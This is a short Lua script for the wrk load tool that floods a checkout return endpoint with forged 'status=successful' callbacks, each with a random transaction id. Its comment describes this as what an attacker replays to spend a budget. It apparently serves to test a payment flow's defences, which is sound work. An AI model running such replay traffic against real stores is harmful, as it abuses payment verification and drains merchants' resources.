-- Return-page visits for the references in REFS (comma-separated), each with
-- a random transaction id: what an attacker replays to spend the budget.
local refs = {}
for r in string.gmatch(os.getenv("REFS") or "x", "[^,]+") do refs[#refs + 1] = r end
math.randomseed(os.time())
request = function()
  local r = refs[math.random(#refs)]
  return wrk.format("GET", "/checkout/return?status=successful&tx_ref=" .. r .. "&transaction_id=" .. math.random(1, 999999999))
end
